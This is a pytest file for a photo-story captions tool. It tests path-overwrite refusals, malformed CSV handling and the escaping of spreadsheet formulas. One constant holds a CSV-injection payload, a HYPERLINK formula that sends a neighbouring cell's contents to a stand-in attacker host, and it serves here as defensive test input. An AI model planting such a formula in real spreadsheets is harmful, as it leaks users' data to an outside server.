"""Attacks through captions sheets: an export aimed at the story or a photo, sheets that
would have dropped rows or wiped credits, and formulas that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import json
import subprocess
from pathlib import Path

import pytest

from support import require_tool
from cli_support import HANG_GUARD_SECONDS, assert_refused, make_photo, photostory, snapshot

FORMULA = '=HYPERLINK("https://evil.example/?d="&B3,"Read the full caption")'


def _photos(story: Path) -> list[dict]:
    return json.loads(story.read_text(encoding="utf-8"))["photos"]


def _cells(sheet: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(sheet.read_bytes().decode("utf-8-sig"), newline="")))


# -- an export never replaces the story or a photo ------------------------------------------


def _story_spellings(story_dir: Path) -> dict[str, Path]:
    link = story_dir / "captions.csv"
    link.symlink_to("story.photostory")
    return {"itself": story_dir / "story.photostory",
            "detour": story_dir / "photos" / ".." / "." / "story.photostory",
            "symlink": link}


@pytest.mark.parametrize("force", [[], ["--force"]], ids=["plain", "forced"])
@pytest.mark.parametrize("spelling", ["itself", "detour", "symlink"])
def test_export_over_the_story_file_is_refused(story_dir: Path, spelling: str, force: list[str]) -> None:
    target = _story_spellings(story_dir)[spelling]
    before = snapshot(story_dir)
    result = photostory("captions", story_dir / "story.photostory", "--export", target, *force)
    assert_refused(result, f"{target.name}: is the story file")
    assert snapshot(story_dir) == before


@pytest.mark.parametrize("force", [[], ["--force"]], ids=["plain", "forced"])
def test_export_over_a_photo_is_refused(story_dir: Path, force: list[str]) -> None:
    before = snapshot(story_dir)
    result = photostory("captions", story_dir / "story.photostory", "--export",
                        story_dir / "photos" / "photo2.jpg", *force)
    assert_refused(result, "photo2.jpg: is one of the story's photos")
    assert snapshot(story_dir) == before


def test_export_over_a_file_needs_force(story_dir: Path) -> None:
    notes = story_dir / "notes.csv"
    notes.write_text("the desk's own notes\n", encoding="utf-8")
    before = snapshot(story_dir)
    result = photostory("captions", story_dir / "story.photostory", "--export", notes)
    assert_refused(result, "notes.csv: already exists")
    assert snapshot(story_dir) == before
    result = photostory("captions", story_dir / "story.photostory", "--export", notes, "--force")
    assert result.returncode == 0, result.stderr
    assert _cells(notes)[0] == ["file", "caption", "credit", "alt"]


# -- malformed sheets change nothing; short rows keep what they do not reach ------------------


def test_a_quote_never_closed_is_refused_with_its_line(story_dir: Path) -> None:
    """The quote used to swallow every later row into one caption, blank the credit and
    alt, and exit 0."""
    sheet = story_dir / "in.csv"
    sheet.write_text("file,caption,credit,alt\r\n"
                     "photo1.jpg,First,AP,One\r\n"
                     "photo2.jpg,\"Never closed,AFP,Two\r\n"
                     "photo3.jpg,Third,AFP,Three\r\n", encoding="utf-8")
    before = snapshot(story_dir)
    result = photostory("captions", story_dir / "story.photostory", "--import", sheet)
    assert_refused(result, "in.csv line 3: a quoted cell is never closed.")
    assert snapshot(story_dir) == before


def test_a_short_row_keeps_credit_and_alt(story_dir: Path) -> None:
    story = story_dir / "story.photostory"
    full = story_dir / "full.csv"
    full.write_text("file,caption,credit,alt\nphoto2.jpg,Old caption,Reuters,A bus\n", encoding="utf-8")
    assert photostory("captions", story, "--import", full).returncode == 0
    short = story_dir / "short.csv"
    short.write_text("file,caption,credit,alt\nphoto2.jpg,New caption\n", encoding="utf-8")
    result = photostory("captions", story, "--import", short)
    assert result.returncode == 0, result.stderr
    photo = _photos(story)[1]
    assert (photo["caption"], photo["credit"], photo["alt"]) == ("New caption", "Reuters", "A bus")


# -- formulas from a photo's IPTC ------------------------------------------------------------------


def test_a_formula_caption_from_iptc_is_exported_as_text_and_comes_back_exactly(tmp_path: Path) -> None:
    exiftool = require_tool("exiftool")  # writes the IPTC caption
    photos = tmp_path / "photos"
    for name, caption in (("a.jpg", FORMULA), ("b.jpg", "-5 °C in Astana"), ("c.jpg", "'quoted'")):
        make_photo(photos / name)
        subprocess.run([exiftool, "-q", "-overwrite_original", "-charset", "iptc=UTF8",
                        "-IPTC:CodedCharacterSet=UTF8", f"-IPTC:Caption-Abstract={caption}",
                        str(photos / name)], check=True, timeout=HANG_GUARD_SECONDS)
    story = tmp_path / "story.photostory"
    assert photostory("new", story, "--photos", photos).returncode == 0
    captions = [p["caption"] for p in _photos(story)]
    assert captions == [FORMULA, "-5 °C in Astana", "'quoted'"]

    sheet = tmp_path / "captions.csv"
    result = photostory("captions", story, "--export", sheet)
    assert result.returncode == 0, result.stderr
    assert [row[1] for row in _cells(sheet)[1:]] == ["'" + text for text in captions]

    result = photostory("captions", story, "--import", sheet)
    assert result.returncode == 0, result.stderr
    assert [p["caption"] for p in _photos(story)] == captions
